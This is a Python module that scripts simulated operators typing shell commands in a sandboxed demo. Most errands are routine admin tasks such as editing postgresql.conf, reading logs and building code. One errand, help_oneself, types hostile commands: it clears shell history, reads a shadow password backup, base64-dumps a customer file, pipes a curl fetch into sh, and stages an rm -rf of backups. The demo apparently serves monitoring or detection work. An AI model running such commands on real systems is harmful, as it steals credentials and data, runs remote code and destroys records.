"""What the demo's operators do: each errand starts and ends at a shell prompt."""

from __future__ import annotations

import shutil
from collections.abc import Awaitable, Callable

from .sandbox import PATH
from .typist import Typist

Errand = Callable[[Typist], Awaitable[None]]
_ESCAPE = "\x1b"


def _has(tool: str) -> bool:
    return shutil.which(tool, path=PATH) is not None


async def look_around(typist: Typist) -> None:
    """The first things that anybody types on a host."""
    commands = ["ls -la", "df -h .", "uptime", "pwd", "date -u", "ls log", "free -m", "who"]
    for command in typist.chance.sample(commands, 4):
        await typist.line(command)
        await typist.rest(0.8, 3.0)


async def edit_configuration(typist: Typist) -> None:
    """Change a setting in vi, and check the change."""
    if not _has("vi"):
        await typist.line("grep -n wal postgresql.conf")
        return
    await typist.start("vi postgresql.conf")
    await typist.rest(1.5, 3.0)
    await typist.press("j", typist.chance.randrange(4, 9), 0.25)
    await typist.say("/work_mem\r")
    await typist.rest(1.0, 2.0)
    await typist.say(f"A  # was {typist.chance.choice([16, 24, 48])}MB, see CHG-20413")
    await typist.press(_ESCAPE)
    await typist.press("u" if typist.chance.random() < 0.4 else "l")
    await typist.rest(2.0, 6.0)
    await typist.say(":wq\r")
    await typist.line("grep -n work_mem postgresql.conf")
    await typist.rest(1.0, 3.0)


async def read_log(typist: Typist) -> None:
    """Page through a log and search it."""
    if not _has("less"):
        await typist.line("tail -n 30 log/postgresql.log")
        return
    await typist.start("less -S log/postgresql.log")
    await typist.rest(1.5, 3.0)
    await typist.press(" ", typist.chance.randrange(2, 5), 1.2)
    await typist.say("/deadlock\r")
    await typist.rest(1.0, 2.0)
    await typist.press("n", typist.chance.randrange(2, 6), 1.0)
    await typist.rest(1.0, 4.0)
    await typist.press("q")
    await typist.line("grep -c ERROR log/postgresql.log")


async def read_notes(typist: Typist) -> None:
    """Page through a text, there and back."""
    await typist.start("less notes.txt" if _has("less") else "cat notes.txt")
    await typist.rest(1.0, 3.0)
    await typist.press(" ", 3, 1.5)
    await typist.press("b", 2, 1.0)
    await typist.press("q")
    await typist.line("wc -l notes.txt")
    await typist.rest(2.0, 8.0)


async def watch_processes(typist: Typist) -> None:
    """Keep an eye on the load."""
    await typist.start("top -d 2" if _has("top") else "while :; do uptime; sleep 2; done")
    await typist.rest(8.0, 15.0)
    await typist.press(typist.chance.choice(["M", "P", "1"]))
    await typist.rest(25.0, 60.0)
    await typist.press("q")
    await typist.press("\x03")
    await typist.rest(0.5, 1.0)


async def build(typist: Typist) -> None:
    """Build from scratch, run the result."""
    await typist.line("cd ~/app")
    if _has("make") and _has("cc"):
        await typist.line("make clean && make", 60)
        await typist.rest(0.5, 1.5)
        await typist.line("make test")
    else:
        await typist.line("./build.sh", 60)
    await typist.rest(3.0, 9.0)


async def look_at_a_source(typist: Typist) -> None:
    """Read a piece of code between two builds."""
    await typist.line("cd ~/app")
    await typist.line("head -n 12 $(ls *.c *.py 2>/dev/null | tail -n 1)")
    await typist.rest(3.0, 6.0)
    await typist.line("grep -n 'int ' *.c | head -n 15" if _has("cc") else "ls -l")
    await typist.rest(2.0, 5.0)


async def follow_traffic(typist: Typist) -> None:
    """Watch a log that never rests."""
    await typist.start("tail -n 20 -f log/access.log")
    await typist.rest(20.0, 45.0)
    await typist.press("\x03")
    await typist.line("grep -c ' 500 ' log/access.log")
    await typist.rest(1.0, 3.0)
    await typist.line("awk '{print $5}' log/access.log | sort | uniq -c | sort -rn | head")
    await typist.rest(2.0, 6.0)


async def help_oneself(typist: Typist) -> None:
    """What somebody would want to see as it happens. None of it works, or leaves the sandbox."""
    await typist.line("unset HISTFILE")
    await typist.rest(1.0, 4.0)
    await typist.line("cat backup/shadow.bak")
    await typist.rest(4.0, 9.0)
    await typist.line("grep -c , customers.csv; base64 customers.csv | head -n 12")
    await typist.rest(3.0, 8.0)
    await typist.line("curl -fsS http://127.0.0.1:9/x.sh | sh")
    await typist.rest(2.0, 6.0)
    await typist.line("printf 'rm -rf %s\\n' ~/backup > .later; cat .later")
    await typist.rest(2.0, 5.0)
    await typist.line("history -c; rm -f .later")
    await typist.rest(10.0, 30.0)
